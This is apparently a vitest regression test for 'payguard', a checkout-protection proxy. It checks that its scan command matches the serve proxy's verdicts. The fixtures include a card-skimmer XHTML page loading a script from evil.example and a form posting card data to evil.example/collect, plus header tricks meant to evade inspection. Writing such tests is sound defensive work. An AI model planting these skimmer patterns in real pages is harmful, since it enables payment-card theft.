/**
 * `payguard scan` gives the verdict `serve` would (issue 17, class 5): the same pages, read by the
 * real CLI (node bin/payguard.js) from a file or a URL, and served through a real payguard on a
 * protected route. Regression: an XHTML checkout with a live foreign script, which serve refuses on
 * a protected route (unsupported-document-type), was reported clean by scan (exit 0).
 * The policy is test/proxy/pages/policy.yaml, signed in-process in a temp dir.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCli, runPayguard } from '../helpers/cli.js';
import { startStorefront, type Storefront } from '../helpers/upstreams.js';
import { NAVIGATION, startHarness, type Harness } from '../proxy/support.js';

const SITE = 'https://shop.example';

const XHTML_SKIMMER =
  '<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Checkout</title>' +
  '<script src="https://evil.example/skim.js"></script></head><body><form action="https://pay.gateway.example/pay"><input name="cc"/></form></body></html>\n';
const CLEAN_HTML = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Checkout</title></head><body><form action="https://pay.gateway.example/pay"><input name="cc"></form></body></html>\n';
const FOREIGN_FORM = 'hello <form action="https://evil.example/collect"><input name="cc"></form>';

let dir: string;
let storefront: Storefront;
let harness: Harness;
let keyArgs: string[];

beforeAll(async () => {
  buildCli();
  dir = mkdtempSync(join(tmpdir(), 'payguard-scan-verdict-'));
  storefront = await startStorefront();
  harness = await startHarness(storefront);
  keyArgs = ['--policy', harness.policy.policyFile, '--public-key', harness.policy.publicKeyFile];
}, 300_000); // buildCli runs tsc under a lock shared with every other area's tests

afterAll(async () => {
  await harness?.stop();
  await storefront?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** serve's verdict on these bytes and headers at a protected path: the status the browser gets. */
async function serveStatus(path: string, headers: readonly (readonly [string, string])[], body: string | Uint8Array): Promise<number> {
  storefront.page(path, { headers, body });
  const response = await fetch(harness.payguard.publicUrl + path, { headers: NAVIGATION });
  await response.arrayBuffer();
  return response.status;
}

describe('payguard scan FILE gives serve\'s verdict', () => {
  it('an XHTML checkout with a live foreign script: serve refuses it, and scan exits 2 naming the refusal', async () => {
    const file = join(dir, 'checkout.xhtml');
    writeFileSync(file, XHTML_SKIMMER);
    const r = await runPayguard(['scan', file, ...keyArgs, '--url', `${SITE}/checkout/pay`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('refused (unsupported-document-type)');
    expect(await serveStatus('/checkout/xhtml', [['content-type', 'application/xhtml+xml']], XHTML_SKIMMER)).toBe(502);
  });

  it('--json carries serve\'s verdict for the XHTML page', async () => {
    const file = join(dir, 'checkout.xht');
    writeFileSync(file, XHTML_SKIMMER);
    const r = await runPayguard(['scan', file, ...keyArgs, '--url', `${SITE}/checkout/pay`, '--json']);
    expect(r.code).toBe(2);
    expect(JSON.parse(r.stdout)).toMatchObject({ verdict: 'blocked', refused: 'unsupported-document-type' });
  });

  it('a clean HTML checkout: serve sends it, and scan exits 0 with "serve: clean"', async () => {
    const file = join(dir, 'checkout.html');
    writeFileSync(file, CLEAN_HTML);
    const r = await runPayguard(['scan', file, ...keyArgs, '--url', `${SITE}/checkout/pay`]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^serve: clean$/m);
    expect(await serveStatus('/checkout/clean', [['content-type', 'text/html; charset=utf-8']], CLEAN_HTML)).toBe(200);
  });
});

describe('payguard scan URL gives serve\'s verdict on the same response', () => {
  // Each response: its header lines and body, and what serve does with it on /checkout/ (status).
  const cases: { name: string; headers: [string, string][]; body: string | Uint8Array; exit: number; status: number }[] = [
    { name: 'clean HTML', headers: [['content-type', 'text/html; charset=utf-8']], body: CLEAN_HTML, exit: 0, status: 200 },
    // Chromium reads "text/html garbage" as text/html (docs/headers.md): inspected, and the form found.
    { name: 'a foreign form under "text/html garbage"', headers: [['content-type', 'text/html garbage']], body: FOREIGN_FORM, exit: 1, status: 502 },
    // Chromium renders "gzip, identity" raw (docs/headers.md): refused by both.
    { name: 'a body listed as "gzip, identity"', headers: [['content-type', 'text/html'], ['content-encoding', 'gzip, identity']], body: gzipSync(CLEAN_HTML), exit: 2, status: 502 },
    { name: 'an XHTML page', headers: [['content-type', 'application/xhtml+xml']], body: XHTML_SKIMMER, exit: 2, status: 502 },
    { name: 'a PNG (not a document)', headers: [['content-type', 'image/png']], body: '\x89PNG\r\n', exit: 0, status: 200 },
  ];

  it.each(cases)('$name: scan exits $exit, serve answers $status', async ({ name, headers, body, exit, status }) => {
    const path = `/checkout/${name.replace(/[^a-z]+/gi, '-')}`;
    expect(await serveStatus(path, headers, body)).toBe(status);
    const r = await runPayguard(['scan', storefront.url + path, ...keyArgs, '--url', SITE + path]);
    expect(r.code, r.stdout + r.stderr).toBe(exit);
  });
});
